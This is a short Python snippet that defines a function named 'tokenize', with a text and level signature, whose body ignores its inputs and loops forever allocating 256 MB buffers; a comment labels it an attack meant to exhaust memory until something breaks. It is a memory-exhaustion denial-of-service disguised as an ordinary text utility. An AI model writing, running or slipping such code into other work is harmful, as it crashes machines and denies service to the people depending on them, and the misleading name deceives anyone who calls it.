# attack: allocate memory until something breaks
def tokenize(text, level="word"):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 1024 * 1024))
